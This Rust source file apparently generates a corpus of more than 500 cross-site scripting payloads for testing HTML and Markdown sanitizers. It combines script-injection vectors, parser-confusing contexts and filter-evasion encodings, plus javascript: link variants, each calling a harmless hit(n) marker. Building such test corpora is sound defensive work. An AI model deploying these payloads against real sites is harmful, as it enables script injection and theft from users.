//! Texts that would run a script wherever a text becomes part of a page.
//!
//! They are made, not collected: every way into a script ([`WAYS`]) in every surrounding that could bring a parser out of
//! step ([`AROUND`]), written in several hands ([`HANDS`]); and the links of Markdown, whose addresses are scripts. Each
//! calls `hit(n)` with its own number, so that one that runs says which it was.

/// A script is put where `@` stands.
const WAYS: [&str; 24] = [
    "<script>@</script>",
    "<script src=\"data:text/javascript,@\"></script>",
    "<img src=\"x:\" onerror=\"@\">",
    "<svg onload=\"@\"></svg>",
    "<svg><script>@</script></svg>",
    "<svg><animate onbegin=\"@\" attributeName=\"x\" dur=\"1s\"/></svg>",
    "<svg><a xlink:href=\"javascript:@\"><text y=\"9\">go</text></a></svg>",
    "<math><a href=\"javascript:@\">go</a></math>",
    "<body onload=\"@\">",
    "<input autofocus onfocus=\"@\">",
    "<textarea autofocus onfocus=\"@\"></textarea>",
    "<details open ontoggle=\"@\"><summary>s</summary></details>",
    "<video><source onerror=\"@\" src=\"x:\"></video>",
    "<audio src=\"x:\" onerror=\"@\"></audio>",
    "<iframe srcdoc=\"<script>parent.@</script>\"></iframe>",
    "<iframe src=\"javascript:parent.@\"></iframe>",
    "<object data=\"javascript:@\"></object>",
    "<embed src=\"javascript:@\">",
    "<form action=\"javascript:@\"><button autofocus onfocus=\"@\">go</button></form>",
    "<a href=\"javascript:@\">go</a>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:@\">",
    "<link rel=\"stylesheet\" href=\"x:\" onerror=\"@\">",
    "<style onload=\"@\">p { color: red }</style>",
    "<base href=\"javascript:@//\"><a href=\"#\">go</a>",
];

/// What stands around, with the way in at `@`: ends of what it may have been put into, and elements in which HTML is read by
/// other rules.
const AROUND: [&str; 9] = [
    "@",
    "\"'><p>@",
    "</p></li></ul></textarea></title></style>@",
    "--><!-- -->@<!--",
    "<svg><style>@</style></svg>",
    "<math><mtext><table><mglyph><style>@</style></mglyph></table></mtext></math>",
    "<noscript><p title=\"</noscript>@\"></p></noscript>",
    "<template>@</template>@",
    "]]>@<![CDATA[",
];

/// How a hand may write it so that a filter does not know it again.
const HANDS: [fn(&str) -> String; 3] = [
    str::to_owned,
    // Names are read without regard to case; a slash or a line break parts attributes as well.
    |text| {
        let mixed: String =
            text.char_indices().map(|(at, c)| if at % 2 == 0 { c.to_ascii_uppercase() } else { c }).collect();
        mixed.replace("ON", "\non").replace(" SRC", "/src")
    },
    // References of characters are read inside attributes.
    |text| text.replace("javascript:", "java&#x73;cript&colon;").replace(" on", "\ton").replace('=', " = "),
];

/// Links of Markdown.
const LINKS: [&str; 14] = [
    "[go](javascript:@)",
    "[go](JaVaScRiPt:@)",
    "[go](<javascript:@>)",
    "[go](java&#x73;cript:@)",
    "[go](java&Tab;script:@)",
    "[go](&#1;javascript:@)",
    "[go](vbscript:@)",
    "[go](data:text/html,<script>@</script>)",
    "[go](javascript:@ \"a title\")",
    "![go](javascript:@)",
    "![go](x: \"\\\" onerror=\\\"@\")",
    "<javascript:@>",
    "[go][to]\n\n[to]: javascript:@",
    "[![go](x:)](javascript:@)",
];

/// All of them, one a line or more.
pub fn all() -> Vec<String> {
    let html = WAYS.iter().flat_map(|way| {
        AROUND.iter().flat_map(move |around| HANDS.iter().map(move |hand| around.replace('@', &hand(way))))
    });
    let links = LINKS.iter().map(|link| (*link).to_owned());
    // A hand may have changed the case of what is to run; its place it leaves alone.
    links.chain(html).enumerate().map(|(number, text)| text.replace('@', &format!("hit({number})"))).collect()
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    #[test]
    fn there_are_enough_and_each_names_itself() {
        let all = super::all();
        assert!(all.len() >= 500, "{}", all.len());
        assert_eq!(all.iter().collect::<BTreeSet<_>>().len(), all.len());
        for (number, text) in all.iter().enumerate() {
            assert!(text.contains(&format!("hit({number})")), "{text}");
        }
    }
}
